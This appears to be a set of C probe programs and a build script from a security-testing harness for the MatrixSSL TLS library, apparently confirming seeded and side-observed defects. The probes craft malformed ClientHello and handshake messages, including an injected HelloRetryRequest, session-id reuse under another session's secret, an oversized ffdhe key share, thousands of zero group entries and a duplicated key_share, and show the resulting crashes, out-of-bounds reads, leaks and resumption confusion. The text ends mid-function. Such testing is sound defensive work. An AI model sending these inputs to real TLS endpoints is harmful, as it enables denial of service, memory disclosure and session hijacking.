    b[n++] = 0; b[n++] = 43; b[n++] = 0; b[n++] = 2; b[n++] = 3; b[n++] = 4;
    b[n++] = 0; b[n++] = 51; b[n++] = 0; b[n++] = 2;
    b[n++] = (unsigned char) (group >> 8); b[n++] = (unsigned char) group;
    l = hs_msg(m + 5, 2, b, n);
    m[0] = 22; m[1] = 3; m[2] = 3; m[3] = (unsigned char) (l >> 8);
    m[4] = (unsigned char) l;
    peer_feed(&cl, m, l + 5, &junk);    /* injected HelloRetryRequest */
    printf("  injected HelloRetryRequest: client answers with %u bytes "
        "(handshake type %d) - dropped by the man in the middle\n",
        (unsigned) junk.len, junk.len > 5 ? junk.b[5] : -1);
    if (cl.failed || junk.len < 6 || junk.b[5] != 1)
    {
        return 0;
    }
    peer_feed(&sv, ch1.b, ch1.len, &s2c);   /* server sees ClientHello 1 */
    for (round = 0; round < 4 && !(cl.complete && sv.complete); round++)
    {
        peer_feed(&cl, s2c.b, s2c.len, &c2s);
        wire_clear(&s2c);
        peer_feed(&sv, c2s.b, c2s.len, &s2c);
        wire_clear(&c2s);
    }
    printf("  honest TLS 1.2 server: complete=%d failed=%d; client: "
        "complete=%d failed=%d gotAlert=%d\n", sv.complete, sv.failed,
        cl.complete, cl.failed, cl.gotAlert);
    rc = cl.complete && sv.complete && !cl.failed && !sv.failed;
    matrixSslDeleteSession(cl.ssl);
    matrixSslDeleteSession(sv.ssl);
    matrixSslDeleteKeys(ckeys);
    matrixSslDeleteKeys(skeys);
    return rc;
}

/******************************************************************************/

int main(int argc, char **argv)
{
    seqres_t r;
    int rc;

    tk_root = argc > 1 ? argv[1] : ".";
    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0)
    {
        return 0;
    }
    printf("Side observation probes (letters as in tk.h)\n\n");

    printf("P1  client offering TLS 1.3 and 1.2: ClientHello, "
        "HelloRetryRequest, ClientHello, ServerHello(TLS 1.2), ...\n");
    rc = p1_hrr_then_tls12();
    printf("  => %s\n\n", rc == 1 ?
        "CONFIRMED: a TLS 1.2 handshake completes although a TLS 1.3 "
        "HelloRetryRequest and a second ClientHello occurred in it (and "
        "neither is covered by Finished)" : "not confirmed");

    printf("P1b the same between two honest MatrixSSL peers (client TLS 1.3+1.2, "
        "server TLS 1.2 only) with an injecting man in the middle\n");
    rc = p1b_mitm();
    printf("  => %s\n\n", rc == 1 ?
        "CONFIRMED: both peers complete; the injected HelloRetryRequest and "
        "the second ClientHello go unnoticed" : "not confirmed");

    printf("P2  server with TLS 1.3 and 1.2 enabled: ChangeCipherSpec record "
        "before the ClientHello\n");
    r = tk_run_server_seq("H|KCF|", SSL_FLAGS_TLS_1_3 | SSL_FLAGS_TLS_1_2, 1);
    tk_print_res("server", "H|KCF|", &r);
    r = tk_run_server_seq("c|H|KCF|", SSL_FLAGS_TLS_1_3 | SSL_FLAGS_TLS_1_2, 1);
    tk_print_res("server", "c|H|KCF|", &r);
    printf("  => %s\n", r.completed ?
        "CONFIRMED: the premature ChangeCipherSpec is ignored and the TLS 1.2 "
        "handshake completes" : "not confirmed");
    r = tk_run_server_seq("c|H|KCF|", SSL_FLAGS_TLS_1_2, 0);
    tk_print_res("server(1.2 only)", "c|H|KCF|", &r);
    printf("\n");

    printf("P3  records that follow the last message of a flight in the same "
        "read are dropped silently\n");
    r = tk_run_server_seq("H|KCFF|", SSL_FLAGS_TLS_1_2, 0);
    tk_print_res("server", "H|KCFF|", &r);
    printf("  => %s\n", r.completed ?
        "CONFIRMED: a second (protected) Finished record delivered together "
        "with the first is neither parsed nor answered with an alert; the "
        "handshake completes" : "not confirmed");
    r = tk_run_server_seq("H|KCF|F|", SSL_FLAGS_TLS_1_2, 0);
    tk_print_res("server", "H|KCF|F|", &r);
    printf("  (delivered separately the second Finished is refused)\n\n");

    printf("P4  PSK suite: CertificateRequest (a message of another key "
        "exchange mode)\n");
    r = tk_run_client_seq("SERD|CF|", 0);
    tk_print_res("client", "SERD|CF|", &r);
    printf("  => %s\n\n", r.completed ?
        "CONFIRMED: the client ignores the CertificateRequest and completes "
        "(the second one is refused by the unmodified code, see demo)" :
        "not confirmed");

    printf("P5  NewSessionTicket in the record of ServerHelloDone, i.e. before "
        "the client has sent ClientKeyExchange/Finished\n");
    r = tk_run_client_seq("SD|NCF|", 1);
    tk_print_res("client", "SD|NCF|", &r);
    r = tk_run_client_seq("SD+N|CF|", 1);
    tk_print_res("client", "SD+N|CF|", &r);
    printf("  => %s\n", r.completed ?
        "CONFIRMED: the premature NewSessionTicket is accepted and the "
        "handshake completes" : "not confirmed");
    r = tk_run_client_seq("SND|CF|", 1);
    tk_print_res("client", "SND|CF|", &r);
    printf("  (in a record of its own before ServerHelloDone it is refused)\n");

    matrixSslClose();
    return 0;
}
