#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C14: "the resumed connection uses exactly the original session's secret, never another session's".
   A connection resumed by session TICKET keeps the session id the client chose (it is echoed in the ServerHello).  On
   close matrixUpdateSession derives the cache index from that id and, the 32 bytes being equal to a cached id (ids
   travel in the clear), writes the ticket session's master secret into the victim's cache entry. */
static const psCipher16_t CS[1] = { TLS_RSA_WITH_AES_128_CBC_SHA };
static int connect_once(hPeer *c, hPeer *s, sslSessionId_t *sid, int ticket, const char *what)
{
    sslSessOpts_t o; int rc, res;
    c->ssl = s->ssl = NULL; c->hsDone = s->hsDone = c->closed = s->closed = 0;
    if (h_new_server(s, SSL_FLAGS_TLS_1_2) < 0) return -9;
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2; o.ticketResumption = ticket;
    if (matrixSslNewClientSession(&c->ssl, c->keys, sid, CS, 1, h_certCbAllowAll, NULL, NULL, NULL, &o) < 0) return -9;
    rc = h_handshake(c, s);
    res = (s->ssl->flags & SSL_FLAGS_RESUMED) ? 1 : 0;
    printf("%-44s handshake rc=%d server resumed=%d\n", what, rc, res);
    matrixSslDeleteSession(c->ssl); matrixSslDeleteSession(s->ssl);
    return rc ? -1 : res;
}
int main(void)
{
    hPeer c = {0}, s = {0};
    sslSessionId_t *V, *M, *X;
    unsigned char name[16] = "ticketkeyname001", sym[32] = {1,2,3}, mac[32] = {4,5,6}, idV[32];
    int r;
    h_server_keys(&s); h_client_keys(&c);
    matrixSslLoadSessionTicketKeys(s.keys, name, sym, 32, mac, 32);
    matrixSslNewSessionId(&V, NULL); matrixSslNewSessionId(&M, NULL); matrixSslNewSessionId(&X, NULL);
    connect_once(&c, &s, V, 0, "victim V, full handshake (session id):");
    memcpy(idV, V->id, 32);
    connect_once(&c, &s, M, 1, "attacker M, full handshake (gets a ticket):");
    memcpy(M->id, idV, 32); M->idLen = 32;      /* M names V's public session id next to its own ticket */
    connect_once(&c, &s, M, 1, "M resumes by ticket, naming V's session id:");
    memcpy(X->id, idV, 32); X->idLen = 32; X->cipherId = CS[0];
    memcpy(X->masterSecret, M->masterSecret, sizeof(X->masterSecret));
    r = connect_once(&c, &s, X, 0, "V's id offered with M's master secret:");
    printf("RESULT %s\n", r == 1 ? "VIOLATED (V's identifier resumes under another session's secret)" : "ok (not resumed)");
    return r == 1;
}
