/*
 * probe_ffdhe_uninit.c - side observation 3 (UNMODIFIED code).
 *
 * Needs a server that enabled a finite-field group (e.g. ffdhe2048) with
 * matrixSslSessOptsSetKeyExGroups - not the default configuration.
 *
 * tls13ImportPublicValue() (DH branch) does
 *      ssl->sec.dhKeyPub = psMalloc(ssl->hsPool, sizeof(psDhKey_t));
 *      rc = psDhImportPubKey(..., keyExchangeData, keyExchangeDataLen,
 *                            ssl->sec.dhKeyPub);
 *      if (rc < 0) goto out_handshake_failure;      (dhKeyPub stays set)
 * psDhImportPubKey() fails in pstm_init_for_read_unsigned_bin() without
 * having written key->pub when the value is longer than PSTM_MAX_SIZE
 * digits (about 1.5 KB).  matrixSslDeleteSession() later calls
 * psDhClearKey(ssl->sec.dhKeyPub) -> pstm_clear(&key->pub) on the
 * never-initialised pstm_int: whatever the heap block contained is used as
 * a digit pointer, zeroised and free()d.
 *
 * The probe fills every fresh malloc() block with 0xA5 (what
 * MALLOC_PERTURB_ does) so that the uninitialised use is deterministic, and
 * catches the resulting fault.  exit 1 = observed, 0 = not observed.
 */
#include "probe_common.h"

static int g_keLen;

static void on_fault(int sig)
{
    static const char msg[] =
        "CONFIRMED: fault in matrixSslDeleteSession() after an oversized "
        "ffdhe2048 key share (uninitialised psDhKey_t used)\n";
    (void) sig;
    if (write(1, msg, sizeof(msg) - 1) < 0) { }
    _exit(1);
}

static int edit(unsigned type, const unsigned char *data, int len,
    unsigned char *out)
{
    if (type == 51 /* key_share */)
    {
        int shares = 4 + g_keLen, i;
        out[0] = 0; out[1] = 51;
        out[2] = (unsigned char) ((shares + 2) >> 8);
        out[3] = (unsigned char) (shares + 2);
        out[4] = (unsigned char) (shares >> 8);
        out[5] = (unsigned char) shares;
        out[6] = 0x01; out[7] = 0x00;            /* ffdhe2048 */
        out[8] = (unsigned char) (g_keLen >> 8);
        out[9] = (unsigned char) g_keLen;
        for (i = 0; i < g_keLen; i++)
        {
            out[10 + i] = (unsigned char) (0x11 + i);
        }
        return 10 + g_keLen;
    }
    return copy_ext(type, data, len, out);
}

static void run(int keLen)
{
    static unsigned char ch[4096], ch2[8192];
    uint16_t groups[1] = { namedgroup_ffdhe2048 };
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    sslSessOpts_t opts;
    ssl_t *srv = NULL;
    int len, len2;
    int32 rc;

    len = get_client_hello(groups, 1, 1, ch, sizeof(ch));
    g_keLen = keLen;
    len2 = edit_client_hello(ch, len, edit, ch2, sizeof(ch2));
    if (len < 0 || len2 < 0)
    {
        printf("cannot build ClientHello\n");
        exit(2);
    }
    memset(&opts, 0, sizeof(opts));
    matrixSslSessOptsSetServerTlsVersions(&opts, v13, 1);
    matrixSslSessOptsSetKeyExGroups(&opts, groups, 1, 1);
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &opts) < 0)
    {
        exit(2);
    }
    g_poison = 1;
    rc = feed(srv, ch2, len2);
    printf("ffdhe2048 key share of %d bytes: matrixSslReceivedData -> %d; "
        "deleting the session ...\n", keLen, rc);
    matrixSslDeleteSession(srv);
    g_poison = 0;
    printf("  ... session deleted\n");
}

int main(void)
{
    if (probe_setup() < 0)
    {
        return 2;
    }
    signal(SIGSEGV, on_fault);
    signal(SIGBUS, on_fault);
    signal(SIGABRT, on_fault);
    run(256);   /* control: a value of the right size */
    run(2000);  /* longer than a pstm_int may be */
    printf("not observed\n");
    return 0;
}
