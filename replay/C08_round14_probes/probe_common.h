/*
 * probe_common.h - helpers shared by the side-observation probes
 * (probe_*.c).  Not part of the seeded defect or of demo.c.
 *
 *  - exact heap accounting by interposing malloc/calloc/realloc/free
 *    (optionally filling fresh blocks with 0xA5, like MALLOC_PERTURB_)
 *  - a TLS 1.3 ClientHello taken from a real client session and a small
 *    editor for its extension list
 */
#ifndef PROBE_COMMON_H
#define PROBE_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <malloc.h>
#include <signal.h>
#include <unistd.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

extern void *__libc_malloc(size_t);
extern void *__libc_calloc(size_t, size_t);
extern void *__libc_realloc(void *, size_t);
extern void __libc_free(void *);

static long g_liveBlocks;
static long g_liveBytes;
static int g_poison; /* fill fresh malloc() blocks with 0xA5 */

void *malloc(size_t n)
{
    void *p = __libc_malloc(n);
    if (p)
    {
        g_liveBlocks++;
        g_liveBytes += (long) malloc_usable_size(p);
        if (g_poison)
        {
            memset(p, 0xA5, n);
        }
    }
    return p;
}

void *calloc(size_t a, size_t b)
{
    void *p = __libc_calloc(a, b);
    if (p)
    {
        g_liveBlocks++;
        g_liveBytes += (long) malloc_usable_size(p);
    }
    return p;
}

void *realloc(void *old, size_t n)
{
    long oldSize = old ? (long) malloc_usable_size(old) : 0;
    void *p = __libc_realloc(old, n);
    if (p)
    {
        if (!old)
        {
            g_liveBlocks++;
        }
        g_liveBytes += (long) malloc_usable_size(p) - oldSize;
    }
    else if (old && n == 0)
    {
        g_liveBlocks--;
        g_liveBytes -= oldSize;
    }
    return p;
}

void free(void *p)
{
    if (p)
    {
        g_liveBlocks--;
        g_liveBytes -= (long) malloc_usable_size(p);
    }
    __libc_free(p);
}

static sslKeys_t *g_cliKeys, *g_srvKeys;

static int32 probeCertCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    return alert;
}

static int probe_setup(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0)
    {
        return -1;
    }
    if (matrixSslNewKeys(&g_srvKeys, NULL) < 0 ||
        matrixSslNewKeys(&g_cliKeys, NULL) < 0)
    {
        return -1;
    }
    if (matrixSslLoadRsaKeysMem(g_srvKeys, RSA2048, sizeof(RSA2048),
            RSA2048KEY, sizeof(RSA2048KEY), NULL, 0) < 0)
    {
        return -1;
    }
    if (matrixSslLoadRsaKeysMem(g_cliKeys, NULL, 0, NULL, 0,
            RSA2048CA, sizeof(RSA2048CA)) < 0)
    {
        return -1;
    }
    return 0;
}

/* Create a TLS 1.3 client offering 'groups' (nShares key shares) and copy
   its first flight (one record: the ClientHello) to buf.  The client
   session is deleted again.  Returns the length, < 0 on error. */
static int get_client_hello(uint16_t *groups, int nGroups, int nShares,
    unsigned char *buf, int bufLen)
{
    ssl_t *cli = NULL;
    sslSessOpts_t opts;
    sslSessionId_t *sid = NULL;
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    psCipher16_t suites[1] = { TLS_AES_128_GCM_SHA256 };
    unsigned char *out;
    int32 rc, len;

    memset(&opts, 0, sizeof(opts));
    matrixSslSessOptsSetClientTlsVersions(&opts, v13, 1);
    if (groups && matrixSslSessOptsSetKeyExGroups(&opts, groups, nGroups,
            nShares) < 0)
    {
        return -1;
    }
    if (matrixSslNewSessionId(&sid, NULL) < 0)
    {
        return -1;
    }
    rc = matrixSslNewClientSession(&cli, g_cliKeys, sid, suites, 1,
            probeCertCb, NULL, NULL, NULL, &opts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        matrixSslDeleteSessionId(sid);
        return -1;
    }
    len = matrixSslGetOutdata(cli, &out);
    if (len <= 0 || len > bufLen)
    {
        len = -1;
    }
    else
    {
        memcpy(buf, out, len);
    }
    matrixSslDeleteSession(cli);
    matrixSslDeleteSessionId(sid);
    return len;
}

/* Extension editor callback: called for every extension of the original
   ClientHello.  Append what should replace it to out (including the 4 byte
   type/length header) and return the number of bytes written. */
typedef int (*extEdit_t)(unsigned type, const unsigned char *data, int len,
    unsigned char *out);

/* Rewrite the extension list of the ClientHello record in 'in' using 'edit'.
   The result may need more than one record: it is written as records of at
   most 16384 bytes.  Returns the output length, < 0 on error. */
static int edit_client_hello(const unsigned char *in, int inLen,
    extEdit_t edit, unsigned char *out, int outMax)
{
    static unsigned char msg[70000];
    const unsigned char *p, *end, *ext, *extEnd;
    int pos, extLenPos, bodyLen, n, o;

    if (inLen < 9 || in[0] != 22 || in[5] != 1)
    {
        return -1;
    }
    p = in + 9;
    end = in + inLen;
    p += 2 + 32;                 /* legacy_version, random */
    p += 1 + p[0];               /* session id */
    p += 2 + ((p[0] << 8) | p[1]); /* cipher suites */
    p += 1 + p[0];               /* compression */
    if (p + 2 > end)
    {
        return -1;
    }
    /* msg = 4 byte handshake header + body */
    pos = 4;
    memcpy(msg + pos, in + 9, p - (in + 9));
    pos += (int) (p - (in + 9));
    extLenPos = pos;
    pos += 2;
    ext = p + 2;
    extEnd = ext + ((p[0] << 8) | p[1]);
    if (extEnd > end)
    {
        return -1;
    }
    while (ext + 4 <= extEnd)
    {
        unsigned type = (ext[0] << 8) | ext[1];
        int len = (ext[2] << 8) | ext[3];
        n = edit(type, ext + 4, len, msg + pos);
        pos += n;
        if (pos > 66000)
        {
            return -1;
        }
        ext += 4 + len;
    }
    n = pos - extLenPos - 2;
    if (n > 65535)
    {
        return -1;
    }
    msg[extLenPos] = (unsigned char) (n >> 8);
    msg[extLenPos + 1] = (unsigned char) n;
    bodyLen = pos - 4;
    msg[0] = 1;
    msg[1] = (unsigned char) (bodyLen >> 16);
    msg[2] = (unsigned char) (bodyLen >> 8);
    msg[3] = (unsigned char) bodyLen;

    /* records */
    o = 0;
    for (n = 0; n < pos; )
    {
        int chunk = pos - n > 16384 ? 16384 : pos - n;
        if (o + 5 + chunk > outMax)
        {
            return -1;
        }
        out[o++] = 22;
        out[o++] = in[1];
        out[o++] = in[2];
        out[o++] = (unsigned char) (chunk >> 8);
        out[o++] = (unsigned char) chunk;
        memcpy(out + o, msg + n, chunk);
        o += chunk;
        n += chunk;
    }
    return o;
}

/* Feed bytes to a session in read-buffer sized pieces.  Returns the last
   matrixSslReceivedData code. */
static int32 feed(ssl_t *ssl, const unsigned char *data, int len)
{
    unsigned char *in, *pt;
    uint32 ptLen;
    int32 rc = 0, room, n;
    int off = 0;

    while (off < len)
    {
        room = matrixSslGetReadbuf(ssl, &in);
        if (room <= 0)
        {
            return PS_FAILURE;
        }
        n = len - off < room ? len - off : room;
        memcpy(in, data + off, n);
        off += n;
        rc = matrixSslReceivedData(ssl, n, &pt, &ptLen);
        if (rc < 0)
        {
            return rc;
        }
    }
    return rc;
}

static int copy_ext(unsigned type, const unsigned char *data, int len,
    unsigned char *out)
{
    out[0] = (unsigned char) (type >> 8);
    out[1] = (unsigned char) type;
    out[2] = (unsigned char) (len >> 8);
    out[3] = (unsigned char) len;
    memcpy(out + 4, data, len);
    return 4 + len;
}

#endif /* PROBE_COMMON_H */
