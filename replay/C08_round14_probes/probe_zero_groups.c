/*
 * probe_zero_groups.c - side observation 2 (UNMODIFIED code).
 *
 * tls13AddPeerSupportedGroup() looks for a "free" slot (value 0) in
 * ssl->tls13PeerSupportedGroups[TLS_1_3_MAX_GROUPS] and increments
 * ssl->tls13PeerSupportedGroupsLen.  A supported_groups entry with the
 * value 0x0000 is stored into the free slot, which stays "free", but the
 * length is still incremented: N zero entries give a length of N with a
 * 32 entry array.  When the server then has to pick a group for a
 * HelloRetryRequest, tls13NegotiateGroup() -> tls13IntersectionPrioritySelectU16()
 * copies 'length' uint16_t values out of the 32 entry array: an
 * out-of-bounds read of (N - 32) * 2 bytes behind the array (behind the
 * whole ssl_t when N is large enough).
 *
 * The probe looks at the length field through the internal header and
 * reports how far the read goes.  Run it under valgrind to see the invalid
 * reads.  exit 1 = observed, 0 = not observed.
 */
#include "probe_common.h"
#include "matrixssl/matrixssllib.h"

#define NZERO 7000

static int edit(unsigned type, const unsigned char *data, int len,
    unsigned char *out)
{
    if (type == 10 /* supported_groups */)
    {
        int listLen = 2 * NZERO + 2, i;
        out[0] = 0; out[1] = 10;
        out[2] = (unsigned char) ((listLen + 2) >> 8);
        out[3] = (unsigned char) (listLen + 2);
        out[4] = (unsigned char) (listLen >> 8);
        out[5] = (unsigned char) listLen;
        for (i = 0; i < NZERO; i++)
        {
            out[6 + 2 * i] = 0;
            out[7 + 2 * i] = 0;
        }
        out[6 + 2 * NZERO] = 0x00;       /* secp521r1: the server's group */
        out[7 + 2 * NZERO] = 0x19;
        return 4 + 2 + listLen;
    }
    return copy_ext(type, data, len, out);
}

int main(void)
{
    static unsigned char ch[4096], ch2[40000];
    uint16_t cliGroups[1] = { namedgroup_secp256r1 };
    uint16_t srvGroups[1] = { namedgroup_secp521r1 };
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    sslSessOpts_t opts;
    ssl_t *srv = NULL;
    unsigned char *out;
    int len, len2;
    int32 rc, outLen;
    long past;

    if (probe_setup() < 0)
    {
        return 2;
    }
    len = get_client_hello(cliGroups, 1, 1, ch, sizeof(ch));
    len2 = edit_client_hello(ch, len, edit, ch2, sizeof(ch2));
    if (len < 0 || len2 < 0)
    {
        printf("cannot build ClientHello\n");
        return 2;
    }
    memset(&opts, 0, sizeof(opts));
    matrixSslSessOptsSetServerTlsVersions(&opts, v13, 1);
    matrixSslSessOptsSetKeyExGroups(&opts, srvGroups, 1, 1);
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &opts) < 0)
    {
        return 2;
    }
    rc = feed(srv, ch2, len2);
    outLen = matrixSslGetOutdata(srv, &out);
    printf("ClientHello with %d zero groups (%d bytes): "
        "matrixSslReceivedData -> %d, %d bytes to send%s\n", NZERO, len2, rc,
        outLen, (outLen > 14 && out[5] == 2 && out[11] == 0xCF) ?
        " (a HelloRetryRequest)" : "");
    printf("ssl->tls13PeerSupportedGroupsLen = %u, array has %d entries, "
        "sizeof(ssl_t) = %lu\n", (unsigned) srv->tls13PeerSupportedGroupsLen,
        TLS_1_3_MAX_GROUPS, (unsigned long) sizeof(ssl_t));
    past = (long) ((unsigned char *) srv->tls13PeerSupportedGroups +
            2L * srv->tls13PeerSupportedGroupsLen -
            ((unsigned char *) srv + sizeof(ssl_t)));
    if (srv->tls13PeerSupportedGroupsLen > TLS_1_3_MAX_GROUPS)
    {
        printf("CONFIRMED: the group negotiation read %u entries from a %d "
            "entry array", (unsigned) srv->tls13PeerSupportedGroupsLen,
            TLS_1_3_MAX_GROUPS);
        if (past > 0)
        {
            printf(", %ld bytes past the end of the ssl_t heap block", past);
        }
        printf("\n");
        matrixSslDeleteSession(srv);
        return 1;
    }
    printf("not observed\n");
    matrixSslDeleteSession(srv);
    return 0;
}
