/*
 * probe_dup_keyshare.c - side observation 1 (UNMODIFIED code).
 *
 * The TLS 1.3 extension parsers do not reject an extension that occurs
 * twice.  A ClientHello that carries its key_share extension twice makes
 * the server call tls13ImportPublicValue() twice; for a NIST curve the
 * second call does
 *      psEccClearKey(ssl->sec.eccKeyPub);           (struct not freed)
 *      psEccNewKey(..., &ssl->sec.eccKeyPub, ...);  (pointer overwritten)
 * so the first psEccKey_t is lost: it is still allocated after
 * matrixSslDeleteSession().
 *
 * The probe sends the same ClientHello once unchanged (control) and once
 * with the key_share extension duplicated, deletes the server session and
 * compares the live heap.  exit 1 = leak observed, 0 = none.
 */
#include "probe_common.h"

static int g_dup;

static int edit(unsigned type, const unsigned char *data, int len,
    unsigned char *out)
{
    int n = copy_ext(type, data, len, out);
    if (g_dup && type == 51 /* key_share */)
    {
        n += copy_ext(type, data, len, out + n);
    }
    return n;
}

static long run(int dup, int rounds)
{
    static unsigned char ch[4096], ch2[8192];
    long before = 0;
    int i, len, len2;

    for (i = 0; i <= rounds; i++)
    {
        ssl_t *srv = NULL;
        sslSessOpts_t opts;
        psProtocolVersion_t v13[1] = { v_tls_1_3 };
        int32 rc;

        if (i == 1)
        {
            before = g_liveBytes; /* round 0 is the warm-up */
        }
        len = get_client_hello(NULL, 0, 0, ch, sizeof(ch));
        g_dup = dup;
        len2 = edit_client_hello(ch, len, edit, ch2, sizeof(ch2));
        if (len < 0 || len2 < 0)
        {
            printf("cannot build ClientHello\n");
            exit(2);
        }
        memset(&opts, 0, sizeof(opts));
        matrixSslSessOptsSetServerTlsVersions(&opts, v13, 1);
        if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &opts) < 0)
        {
            exit(2);
        }
        rc = feed(srv, ch2, len2);
        if (i == 0)
        {
            printf("  %s ClientHello (%d bytes): matrixSslReceivedData -> %d\n",
                dup ? "duplicated-key_share" : "unchanged", len2, rc);
        }
        matrixSslDeleteSession(srv);
    }
    return g_liveBytes - before;
}

int main(void)
{
    long ctl, dup;

    if (probe_setup() < 0)
    {
        return 2;
    }
    ctl = run(0, 5);
    printf("control: 5 server sessions, unchanged ClientHello: %+ld bytes "
        "live after matrixSslDeleteSession\n", ctl);
    dup = run(1, 5);
    printf("probe:   5 server sessions, key_share sent twice:  %+ld bytes "
        "live after matrixSslDeleteSession\n", dup);
    if (ctl == 0 && dup > 0)
    {
        printf("CONFIRMED: %ld bytes leaked per connection by a duplicated "
            "key_share extension\n", dup / 5);
        return 1;
    }
    printf("not observed\n");
    return 0;
}
