#!/bin/sh
# usage: run.sh [repo]  - single allocation failures over a DTLS 1.2 ECDHE-ECDSA client-auth handshake at PMTU 256, with the
# application calling matrixDtlsGetOutdata after an error return (DEMO_PUMP_AFTER_ERROR), harness written by a seeding sub-agent.
# before fix (see known_findings.jsonl): SIGSEGV at allocation #23709 (memcpy from NULL in sslEncodeResponse <- matrixDtlsGetOutdata),
#   a 72-byte block leaked at #23708; after: "0 violation(s)".
W=${1:-/repo}
cc -O1 -g -w -DDEMO_ROOT="\"$W\"" -I"$W" -I"$W/core/config" -I"$W/core/include" -I"$W/core/osdep/include" -I"$W/core/include/sfzcl" \
  -I"$W/matrixssl" -I"$W/crypto" -I"$W/core" -o /tmp/side_dtls /verif/replay/C19_dtls_getoutdata_after_memfail/side_dtls_harness.c \
  -Wl,--wrap=malloc -Wl,--wrap=calloc -Wl,--wrap=realloc -Wl,--wrap=free "$W/matrixssl/libssl_s.a" "$W/crypto/libcrypt_s.a" "$W/core/libcore_s.a" -lpthread -lm || exit 2
cd /tmp && DEMO_PUMP_AFTER_ERROR=1 DEMO_FROM=${FROM:-23600} /tmp/side_dtls full 2>/dev/null | tail -3
