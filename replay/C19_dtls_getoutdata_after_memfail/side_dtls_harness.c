/*
 * C19 demo: single allocation faults while a DTLS client reassembles
 * fragmented handshake messages must not leak memory.
 *
 * An in-memory DTLS 1.2 client/server pair (ECDHE-ECDSA, client
 * authentication requested, PMTU 256) is run.  With that PMTU the server's
 * flight contains TWO fragmented handshake messages for the client to
 * reassemble: CERTIFICATE and CERTIFICATE_REQUEST (the server trusts a bundle
 * of CAs, so the list of DNs does not fit in one datagram).
 *
 * malloc/calloc/realloc/free are wrapped (ld --wrap) to
 *   - keep a table of live blocks, and
 *   - fail the k-th allocation made inside a "fault window".
 * The fault window is open while the CLIENT processes a datagram that carries
 * a handshake fragment (fragment_length < length).  For every k (first
 * FAULTS_PER_DGRAM allocations of every such datagram; "full" as argv[1]
 * makes it every allocation of the whole handshake on both sides) one fresh
 * handshake is run with exactly that allocation failing; then both sessions
 * are deleted and the number of live blocks must be back to the value it had
 * before the sessions were created.
 *
 * exit 0: every faulted run ended cleanly (error or success) with no leak
 * exit 1: a run leaked memory / reported success wrongly (details printed)
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>

#include "matrixssl/matrixsslApi.h"

/* ------------------------------------------------------------------ */
/* Allocation tracking and fault injection                              */

void *__real_malloc(size_t n);
void *__real_calloc(size_t a, size_t b);
void *__real_realloc(void *p, size_t n);
void __real_free(void *p);

#define TBL_BITS 18
#define TBL_SIZE (1u << TBL_BITS)
static void *g_tbl[TBL_SIZE];
static size_t g_sz[TBL_SIZE];
static unsigned long g_ser[TBL_SIZE];
static unsigned long g_serial;
#define TOMB ((void *) 1)

static long g_live;          /* live tracked blocks */
static int g_window;         /* fault window open? */
static long g_windowCount;   /* allocations seen inside the window */
static long g_failAt;        /* fail this window allocation (1-based), 0 = none */
static int g_failed;         /* the fault has been delivered */
static int g_track = 1;

static unsigned hashp(void *p)
{
    uintptr_t v = (uintptr_t) p;

    v ^= v >> 17; v *= 0x9E3779B97F4A7C15ull; v ^= v >> 29;
    return (unsigned) (v & (TBL_SIZE - 1));
}

static void tbl_add(void *p, size_t n)
{
    unsigned i = hashp(p);

    while (g_tbl[i] != NULL && g_tbl[i] != TOMB)
    {
        i = (i + 1) & (TBL_SIZE - 1);
    }
    g_tbl[i] = p;
    g_sz[i] = n;
    g_ser[i] = ++g_serial;
    g_live++;
}

static int tbl_del(void *p)
{
    unsigned i = hashp(p);

    while (g_tbl[i] != NULL)
    {
        if (g_tbl[i] == p)
        {
            g_tbl[i] = TOMB;
            g_live--;
            return 1;
        }
        i = (i + 1) & (TBL_SIZE - 1);
    }
    return 0;
}

static void tbl_dump(unsigned long since)
{
    unsigned i;

    for (i = 0; i < TBL_SIZE; i++)
    {
        if (g_tbl[i] != NULL && g_tbl[i] != TOMB && g_ser[i] > since)
        {
            printf("      live block %p, %lu bytes\n", g_tbl[i],
                (unsigned long) g_sz[i]);
        }
    }
}

static void tbl_reset(void)
{
    memset(g_tbl, 0, sizeof(g_tbl));
    g_live = 0;
}

static int should_fail(void)
{
    if (!g_window)
    {
        return 0;
    }
    g_windowCount++;
    if (g_failAt != 0 && g_windowCount == g_failAt)
    {
        g_failed = 1;
        return 1;
    }
    return 0;
}

void *__wrap_malloc(size_t n)
{
    void *p;

    if (should_fail())
    {
        return NULL;
    }
    p = __real_malloc(n);
    if (p && g_track)
    {
        tbl_add(p, n);
    }
    return p;
}

void *__wrap_calloc(size_t a, size_t b)
{
    void *p;

    if (should_fail())
    {
        return NULL;
    }
    p = __real_calloc(a, b);
    if (p && g_track)
    {
        tbl_add(p, a * b);
    }
    return p;
}

void *__wrap_realloc(void *old, size_t n)
{
    void *p;

    if (should_fail())
    {
        return NULL; /* like realloc: the old block stays valid */
    }
    p = __real_realloc(old, n);
    if (g_track)
    {
        if (p != NULL || n == 0)
        {
            if (old)
            {
                tbl_del(old);
            }
        }
        if (p)
        {
            tbl_add(p, n);
        }
    }
    return p;
}

void __wrap_free(void *p)
{
    if (p && g_track)
    {
        tbl_del(p);
    }
    __real_free(p);
}

/* ------------------------------------------------------------------ */

#define FAULTS_PER_DGRAM 6
#define MAX_DGRAMS 64
#define MAX_ROUNDS 40

static char g_root[512];
static int g_full;
static int g_quiet;

static sslKeys_t *g_cliKeys, *g_srvKeys;

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    return alert;
}

/* Does this datagram (plaintext epoch 0) contain a handshake fragment? */
static int hasHsFragment(const unsigned char *d, int len)
{
